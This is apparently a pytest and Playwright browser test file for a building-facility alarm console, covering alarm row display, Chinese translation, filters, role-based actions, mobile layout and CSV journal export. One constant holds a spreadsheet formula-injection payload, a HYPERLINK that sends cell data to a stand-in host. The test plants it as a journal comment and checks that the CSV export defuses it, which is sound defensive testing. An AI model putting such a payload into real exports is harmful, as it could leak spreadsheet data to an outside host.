"""The alarm console of the 24-hour centre (issue 12), in headless Chromium over a real
mosquitto, a SQLite database seeded through the project's APIs and — for the actions — the
real alarm engine (gateway.alarms.service) answering on the bus.

Each finding of the issue is a test here: bare ids and raw states, "Since" that became the
acknowledge time, comments never shown, shelved alarms vanishing, no filter/sort/bulk
actions, a table rebuilt every tick, no counter on other pages, a phone page wider than the
phone. What the server refuses each role is covered for every callback by
tests/integration/test_dashboard_access.py::test_callback_by_role_table."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from playwright.sync_api import Page, expect

from dashboards import ids
from dashboards.app import PAGE_PATHS, DashboardServer
from dashboards.queries import Queries
from dashboards.sample import seed_sql, seed_users
from devtools.services import MosquittoServer
from facility.config import DatabaseConfig, MqttConfig, Settings
from gateway.alarms.journal import AlarmRecord
from gateway.alarms.state import AlarmState, EventKind
from gateway.alarms.store import AlarmStore
from tests.browser.alarm_engine import Engine

CRITICAL = "HT-PDP-001/dry_run"  # seeded unacknowledged, critical
ACKED = "HT-TNK-001/level_low"  # seeded acknowledged by li.na, "checking"
LOW = "HT-LGT-001/lamp_failures"  # seeded unacknowledged, low
ESTATES_TZ = ZoneInfo("Asia/Shanghai")  # the demo estates (facility.toml [site] timezone)
ENGINE_ASSETS = {a.partition("/")[0] for a in (CRITICAL, ACKED, LOW)}
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


@dataclass
class Served:
    url: str
    db_url: str
    bus_url: str
    users: dict[str, tuple[str, str]]
    raised: dict[str, datetime]


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    db_path: Path = tmp_path_factory.mktemp("console") / "facility.db"
    with MosquittoServer(tmp_path_factory.mktemp("console-bus")) as bus:
        settings = Settings(
            database=DatabaseConfig(url=f"sqlite:///{db_path}"), mqtt=MqttConfig(url=bus.url)
        )
        now = datetime.now(UTC)
        alarm_ids, _numbers = seed_sql(settings.database_url, now=now)
        # seed_sql raises alarm i at now - (5 + 17 i) minutes
        raised = {a: now - timedelta(minutes=5 + 17 * i) for i, a in enumerate(alarm_ids)}
        with AlarmStore(settings.database_url) as store:  # a hostile comment in the journal
            store.write(
                [AlarmRecord(now, LOW, "HT", "HT-LGT-001", "lamp_failures", EventKind.ACK,
                             AlarmState.UNACK, AlarmState.UNACK, "low", 2, "mallory", FORMULA)],
                [],
            )  # fmt: skip
        users = seed_users(settings.database_url)
        queries = Queries(settings, ack_timeout_s=5.0)
        server = DashboardServer(settings, "127.0.0.1", 0, queries=queries, threads=4).start()
        try:
            yield Served(server.url, settings.database_url, bus.url, users, raised)
        finally:
            server.stop()


@pytest.fixture
def as_role(sign_in_as: Callable[..., Page], served: Served) -> Callable[[str], Page]:
    def signed(role: str) -> Page:
        return sign_in_as(served.url, served.users[role], "/alarms")

    return signed


def _id(component_id: str) -> str:
    return "#" + component_id


def row(page: Page, alarm_id: str):  # type: ignore[no-untyped-def]
    return page.locator(f'tr[data-alarm="{alarm_id}"]')


def tick(page: Page, alarm_id: str) -> None:
    row(page, alarm_id).locator("input[type=checkbox]").check()


def test_rows_say_asset_name_alarm_text_state_in_words_first_raised_and_comment(
    as_role: Callable[[str], Page], served: Served
) -> None:
    page = as_role("viewer")
    acked = row(page, ACKED)
    expect(acked).to_contain_text("Basement domestic water tank 1#")
    expect(acked).to_contain_text("Tank level low")  # the profile's label, not level_low
    expect(acked).to_contain_text("Active, acknowledged")  # not "acked"
    expect(acked).to_contain_text("Limit: 0.8 m")
    expect(acked).to_contain_text("li.na")
    expect(acked).to_contain_text("checking")  # the acknowledging comment is shown
    # first raised stays the activation time (the ack came 2 minutes later)
    raised = served.raised[ACKED].astimezone(ESTATES_TZ).strftime("%Y-%m-%d %H:%M")
    expect(acked.locator(".col-raised")).to_contain_text(raised)
    critical = row(page, CRITICAL)
    expect(critical).to_contain_text("Swimming pool drainage system")
    expect(critical).to_contain_text("Pump ran with no water at its inlet")  # cause
    expect(critical).to_contain_text("Check the sump and strainer")  # action
    expect(critical).to_contain_text("Critical")
    expect(page.locator(_id(ids.ALARM_TABLE))).not_to_contain_text("rtn_unack")
    # a viewer is shown no action (the server refuses them anyway)
    expect(page.locator(_id(ids.ACK_BUTTON))).to_be_hidden()
    expect(page.locator(_id(ids.SHELVE_BUTTON))).to_be_hidden()


def test_chinese_console_translates_states_priorities_and_alarm_names(
    as_role: Callable[[str], Page],
) -> None:
    page = as_role("viewer")
    page.locator(_id(ids.LANG_TOGGLE)).click()
    acked = row(page, ACKED)
    expect(acked).to_contain_text("水箱水位低")
    expect(acked).to_contain_text("报警已确认")
    expect(acked).to_contain_text("地下室生活水箱1#")
    expect(row(page, CRITICAL)).to_contain_text("紧急")
    page.locator(_id(ids.LANG_TOGGLE)).click()


def test_filter_and_sort_patch_rows_in_place_without_rebuilding(
    as_role: Callable[[str], Page],
) -> None:
    page = as_role("viewer")
    body = page.locator(_id(ids.CONSOLE_BODY))
    expect(body.locator("tr:not([hidden])")).to_have_count(3)
    expect(body.locator("tr:not([hidden])").first).to_have_attribute("data-alarm", CRITICAL)
    page.evaluate(f"document.querySelector('tr[data-alarm=\"{ACKED}\"]').dataset.mark = 'kept'")
    page.locator(_id(ids.FILTER_PRIORITY)).click()
    page.get_by_role("option", name="High").click()
    page.keyboard.press("Escape")
    expect(body.locator("tr:not([hidden])")).to_have_count(1)
    page.locator(".dash-dropdown-clear").first.click()
    expect(body.locator("tr:not([hidden])")).to_have_count(3)
    page.locator(_id(ids.CONSOLE_SEARCH)).fill("lamps")
    expect(body.locator("tr:not([hidden])")).to_have_count(1)
    expect(body.locator("tr:not([hidden])").first).to_have_attribute("data-alarm", LOW)
    page.locator(_id(ids.CONSOLE_SEARCH)).fill("")
    expect(body.locator("tr:not([hidden])")).to_have_count(3)
    page.wait_for_timeout(4500)  # two ticks of the console (a guard, not an assertion)
    # the same row element survived filtering and ticks: patched, never rebuilt
    expect(row(page, ACKED)).to_have_attribute("data-mark", "kept")


def test_actions_shown_by_role(as_role: Callable[[str], Page]) -> None:
    page = as_role("operator")
    expect(page.locator(_id(ids.ACK_BUTTON))).to_be_visible()
    expect(page.locator(_id(ids.SHELVE_BUTTON))).to_be_visible()
    expect(page.locator(_id(ids.RESET_BUTTON))).to_be_hidden()
    expect(page.locator(_id(ids.OOS_BUTTON))).to_be_hidden()


def test_a_critical_alarm_needs_a_comment_to_be_acknowledged(
    as_role: Callable[[str], Page],
) -> None:
    page = as_role("operator")
    page.locator(_id(ids.ACK_BUTTON)).click()
    expect(page.locator(_id(ids.ACK_RESULT))).to_contain_text("Select one or more alarms first")
    tick(page, CRITICAL)
    tick(page, LOW)
    expect(page.locator(_id(ids.CONSOLE_COUNT))).to_have_text("2")
    page.locator(_id(ids.ACK_BUTTON)).click()
    result = page.locator(_id(ids.ACK_RESULT))
    expect(result).to_contain_text("A comment is required to acknowledge a critical alarm")
    expect(result).to_contain_text(CRITICAL)


def test_header_counts_alarms_on_every_page_and_the_tone_is_silenced_apart_from_ack(
    sign_in_as: Callable[..., Page], served: Served
) -> None:
    page = sign_in_as(served.url, served.users["viewer"], "/workorders")
    expect(page.locator(_id(ids.counter("critical")))).to_have_text("1")
    expect(page.locator(_id(ids.counter("low")))).to_have_text("1")
    counter = page.locator(_id(ids.ALARM_COUNTER))
    expect(counter).to_have_attribute("data-tone", "on")  # an unacknowledged critical alarm
    page.locator(_id(ids.TONE_SILENCE)).click()
    expect(counter).to_have_attribute("data-tone", "silenced")
    page.wait_for_timeout(2500)  # the next tick of the counter (a guard)
    expect(counter).to_have_attribute("data-tone", "off")  # silenced, not acknowledged:
    expect(page.locator(_id(ids.counter("critical")))).to_have_text("1")  # still standing


def test_phone_width_does_not_overflow(as_role: Callable[[str], Page]) -> None:
    page = as_role("supervisor")
    page.set_viewport_size({"width": 390, "height": 844})
    expect(row(page, CRITICAL)).to_be_visible()
    width = page.evaluate("document.documentElement.scrollWidth")
    assert width <= 390, f"the alarm page is {width} px wide in a 390 px screen"


PHONE_HEADER_MAX_PX = 56  # one line (menu button, title, counter) is ~40 px; two would be ~75


DESKTOP_HEADER_MAX_PX = 60  # one line is ~47 px at 1280 px; two were 88


def test_desktop_header_is_one_line_with_every_menu_entry(
    sign_in_as: Callable[..., Page], served: Served
) -> None:
    """Session 6, the demo's screenshots at 1280 px: the manager's menu (with KPIs and
    Reports) wrapped "Reports" onto a second line under the title. Who is signed in gives
    way instead, cut with an ellipsis and whole in its tooltip."""
    page = sign_in_as(served.url, served.users["manager"], "/alarms")
    page.set_viewport_size({"width": 1280, "height": 800})
    for path in ("/alarms", "/workorders"):
        page.goto(served.url + path)
        expect(page.locator(_id(ids.nav_link("reports")))).to_be_visible()
        height = page.locator(_id(ids.HEADER)).evaluate("h => h.getBoundingClientRect().height")
        assert height <= DESKTOP_HEADER_MAX_PX, f"{path}: the header is {height} px tall"
    badge = page.locator(_id(ids.USER_BADGE))
    expect(badge).to_have_attribute("title", re.compile(r"manager \(manager · all estates\)"))


def test_phone_header_is_one_line_with_the_counter_and_a_menu_on_every_page(
    sign_in_as: Callable[..., Page], served: Served
) -> None:
    page = sign_in_as(served.url, served.users["supervisor"], "/alarms")
    page.set_viewport_size({"width": 390, "height": 844})
    header = page.locator(_id(ids.HEADER))
    menu = page.locator(_id(ids.MENU_BUTTON))

    def header_fits(path: str) -> None:
        height = header.evaluate("h => h.getBoundingClientRect().height")
        assert height <= PHONE_HEADER_MAX_PX, f"{path}: the header is {height} px tall"
        width = page.evaluate("document.documentElement.scrollWidth")
        assert width <= 390, f"{path}: the page is {width} px wide in a 390 px screen"

    for path in [*PAGE_PATHS.values(), "/asset/HT-PMP-001"]:
        page.goto(served.url + path)
        expect(page.locator("main h1").first).to_be_visible()
        expect(page.locator(_id(ids.counter("critical")))).to_have_text("1")  # on every page
        expect(page.locator(_id(ids.counter("critical")))).to_be_visible()
        expect(menu).to_be_visible()
        expect(page.locator(_id(ids.nav_link("workorders")))).to_be_hidden()
        header_fits(path)
    # the menu opens the navigation, who is signed in and the language, and closes on a link
    page.goto(served.url + "/alarms")
    expect(row(page, CRITICAL)).to_be_visible()
    menu.click()
    expect(menu).to_have_attribute("aria-expanded", "true")
    expect(page.locator(_id(ids.USER_BADGE))).to_be_visible()
    expect(page.locator(_id(ids.LANG_TOGGLE))).to_be_visible()
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    page.locator(_id(ids.nav_link("workorders"))).click()
    page.wait_for_url(f"{served.url}/workorders")
    expect(page.locator(_id(ids.nav_link("workorders")))).to_be_hidden()
    expect(menu).to_have_attribute("aria-expanded", "false")
    header_fits("/workorders")
    # in Chinese too (the language button is in the menu)
    menu.click()
    page.locator(_id(ids.LANG_TOGGLE)).click()
    expect(menu).to_have_text("菜单")
    menu.click()
    expect(page.locator(_id(ids.nav_link("workorders")))).to_be_hidden()
    header_fits("/workorders (zh)")
    # on a desktop the header is as before: no menu button, the links shown
    page.set_viewport_size({"width": 1280, "height": 800})
    expect(menu).to_be_hidden()
    expect(page.locator(_id(ids.nav_link("workorders")))).to_be_visible()


def test_journal_view_searches_and_exports_csv_with_the_formula_guard(
    as_role: Callable[[str], Page],
) -> None:
    page = as_role("viewer")
    page.get_by_label("Journal").check()
    journal = page.locator(_id(ids.JOURNAL_TABLE))
    expect(journal).to_contain_text("Tank level low")
    expect(journal).to_contain_text("raised")
    page.locator(_id(ids.JOURNAL_SEARCH)).fill("mallory")
    page.locator(_id(ids.JOURNAL_SEARCH)).press("Enter")
    expect(journal.locator("tbody tr")).to_have_count(1)
    with page.expect_download() as download_info:
        page.locator(_id(ids.JOURNAL_EXPORT)).click()
    path = download_info.value.path()
    rows = list(csv.reader(io.StringIO(Path(path).read_text(encoding="utf-8"))))
    assert rows[0][0] == "When"
    assert len(rows) == 2
    assert rows[1][-1] == "'" + FORMULA  # text in the spreadsheet, never a live formula


def test_bulk_acknowledge_then_shelve_and_unshelve_through_the_engine(
    as_role: Callable[[str], Page], served: Served
) -> None:
    with Engine(served.db_url, served.bus_url, ENGINE_ASSETS):
        page = as_role("supervisor")
        tick(page, CRITICAL)
        tick(page, LOW)
        page.locator(_id(ids.ACK_COMMENT)).fill("crew sent")
        page.locator(_id(ids.ACK_BUTTON)).click()
        result = page.locator(_id(ids.ACK_RESULT))
        expect(result).to_contain_text("Done", timeout=15_000)
        expect(result).not_to_contain_text("Failed")
        supervisor = served.users["supervisor"][0]
        for alarm_id in (CRITICAL, LOW):
            expect(row(page, alarm_id)).to_contain_text(supervisor)
            expect(row(page, alarm_id)).to_contain_text("crew sent")
        # first raised did not become the acknowledge time
        raised = served.raised[CRITICAL].astimezone(ESTATES_TZ).strftime("%Y-%m-%d %H:%M")
        expect(row(page, CRITICAL).locator(".col-raised")).to_contain_text(raised)

        tick(page, LOW)  # shelve the lamp alarm for an hour, with a reason
        page.locator(_id(ids.SHELVE_REASON)).fill("contractor on site")
        page.locator(_id(ids.SHELVE_BUTTON)).click()
        expect(page.locator(_id(ids.SHELVE_RESULT))).to_contain_text("Done", timeout=15_000)
        expect(row(page, LOW)).to_be_hidden()  # off the standing view ...
        page.get_by_label("Shelved / out of service").check()
        shelved = row(page, LOW)  # ... and in the shelved view, not vanished
        expect(shelved).to_contain_text("Shelved")
        expect(shelved).to_contain_text("contractor on site")
        tick(page, LOW)
        page.locator(_id(ids.UNSHELVE_BUTTON)).click()
        expect(page.locator(_id(ids.SHELVE_RESULT))).to_contain_text("Unshelve", timeout=15_000)
        expect(row(page, LOW)).to_be_hidden()
        page.get_by_label("Standing").check()
        expect(row(page, LOW)).to_be_visible()
